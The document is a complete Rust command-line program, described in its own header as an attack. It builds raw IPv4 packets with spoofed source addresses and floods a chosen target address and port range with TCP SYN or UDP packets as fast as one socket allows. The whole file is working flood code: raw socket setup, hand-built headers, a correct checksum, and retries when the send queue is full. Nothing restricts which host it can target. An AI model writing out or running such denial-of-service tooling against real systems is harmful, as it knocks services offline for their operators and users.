//! Sends IPv4 packets from sources that do not exist, as fast as one socket takes them: an attack.
//!
//! `flood syn|udp ADDRESS PORTS COUNT SOURCES`: so many packets, in turn to each of the ports (`3516`
//! or `3000-3999`), from so many pairs of address and port in 198.18.0.0/15 (RFC 2544). Who is the
//! source of which packet is the same in each run. Answers `sent COUNT` and exits.

#![forbid(unsafe_code)]

use std::env;
use std::io::{self, Write as _};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::ops::RangeInclusive;

use anyhow::{Context as _, Result, bail, ensure};
use rustix::io::Errno;
use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};
use rustix::thread::{sched_getaffinity, sched_setaffinity};

fn main() -> Result<()> {
    let arguments: Vec<String> = env::args().skip(1).collect();
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    let [protocol, address, ports, count, sources] = *words.as_slice() else {
        bail!("usage: flood syn|udp ADDRESS PORTS COUNT SOURCES");
    };
    let flood = Flood {
        protocol: Protocol::parse(protocol)?,
        destination: address.parse().context("the address")?,
        ports: parse_ports(ports)?,
        sources: sources.parse().context("the number of sources")?,
    };
    let count = count.parse().context("the number of packets")?;
    leave_the_first_cpu()?;
    flood.send(count)?;
    writeln!(io::stdout(), "sent {count}").context("answer")
}

#[derive(Clone, Copy)]
enum Protocol {
    /// TCP segments that open a connection.
    Syn,
    /// Datagrams of one byte.
    Udp,
}

impl Protocol {
    fn parse(name: &str) -> Result<Self> {
        match name {
            "syn" => Ok(Self::Syn),
            "udp" => Ok(Self::Udp),
            _ => bail!("no such protocol"),
        }
    }

    /// Number in the IP header, and bytes that follow it.
    const fn shape(self) -> (u8, usize) {
        match self {
            Self::Syn => (6, 20),
            Self::Udp => (17, 9),
        }
    }
}

fn parse_ports(ports: &str) -> Result<RangeInclusive<u16>> {
    let (first, last) = ports.split_once('-').unwrap_or((ports, ports));
    let ports = first.parse().context("a port")?..=last.parse().context("a port")?;
    ensure!(!ports.is_empty(), "no port");
    Ok(ports)
}

/// Packets queue up on the CPU that sends them: one is left to those who want theirs to arrive.
fn leave_the_first_cpu() -> Result<()> {
    let mut cpus = sched_getaffinity(None)?;
    if cpus.count() > 1 {
        cpus.unset(0);
        sched_setaffinity(None, &cpus)?;
    }
    Ok(())
}

struct Flood {
    protocol: Protocol,
    destination: Ipv4Addr,
    ports: RangeInclusive<u16>,
    sources: u32,
}

impl Flood {
    fn send(&self, count: u32) -> Result<()> {
        // IPPROTO_RAW means that the IP header is ours; the kernel fills in length and checksum.
        let socket = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW))
            .context("open a raw socket")?;
        let to = SocketAddrV4::new(self.destination, 0);
        let ports = self.ports.clone().cycle();
        for (number, port) in (0..count).zip(ports) {
            let packet = self.packet(number % self.sources, port);
            loop {
                match sendto(&socket, &packet, SendFlags::empty(), &to) {
                    Ok(_) => break,
                    // The queue of the device is full.
                    Err(Errno::NOBUFS | Errno::INTR) => {}
                    Err(error) => return Err(error).context("send"),
                }
            }
        }
        Ok(())
    }

    fn packet(&self, source: u32, port: u16) -> Vec<u8> {
        let (address, source_port) = endpoint(source);
        let (protocol, length) = self.protocol.shape();
        let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, protocol, 0, 0];
        packet.extend(address.octets());
        packet.extend(self.destination.octets());
        let transport = packet.len();
        packet.extend(source_port.to_be_bytes());
        packet.extend(port.to_be_bytes());
        match self.protocol {
            // Sequence and acknowledgement numbers; 20 bytes and SYN; window; checksum; urgent.
            Protocol::Syn => packet.extend([0, 0, 0, 1, 0, 0, 0, 0, 0x50, 2, 255, 255, 0, 0, 0, 0]),
            // Length; no checksum, which IPv4 allows; one byte.
            Protocol::Udp => packet.extend([0, 9, 0, 0, 0]),
        }
        if let Protocol::Syn = self.protocol {
            let pseudo = [u16::from(protocol), u16::try_from(length).unwrap_or_default()];
            let checksum = checksum(packet.get(12..).unwrap_or_default(), pseudo);
            if let Some(field) = packet.get_mut(transport.saturating_add(16)..) {
                for (to, from) in field.iter_mut().zip(checksum.to_be_bytes()) {
                    *to = from;
                }
            }
        }
        packet
    }
}

/// Address and port of a source. Multiplying by an odd number maps 32 bits one to one.
fn endpoint(source: u32) -> (Ipv4Addr, u16) {
    const NETWORK: u32 = 0xc612_0000;
    let scattered = source.wrapping_mul(0x9e37_79b1);
    let port = u16::try_from(scattered >> 17).unwrap_or_default() | 0x8000;
    (Ipv4Addr::from_bits(NETWORK | scattered & 0x1_ffff), port)
}

/// The Internet checksum (RFC 1071) of the addresses and the segment behind them.
fn checksum(bytes: &[u8], pseudo: [u16; 2]) -> u16 {
    let (words, rest) = bytes.as_chunks::<2>();
    let odd = rest.first().map(|byte| u16::from_be_bytes([*byte, 0]));
    let words = words.iter().map(|word| u16::from_be_bytes(*word));
    let mut sum: u32 = words.chain(odd).chain(pseudo).map(u32::from).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or_default()
}
